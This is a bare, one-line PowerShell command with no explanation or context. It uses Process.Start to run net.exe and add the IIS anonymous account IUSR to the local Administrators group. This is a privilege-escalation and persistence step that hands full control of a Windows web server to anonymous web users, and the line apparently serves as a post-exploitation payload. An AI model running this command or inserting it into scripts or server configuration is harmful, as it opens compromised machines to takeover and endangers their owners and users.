[Diagnostics.Process]::Start('net.exe', 'localgroup Administrators IUSR /add').WaitForExit()
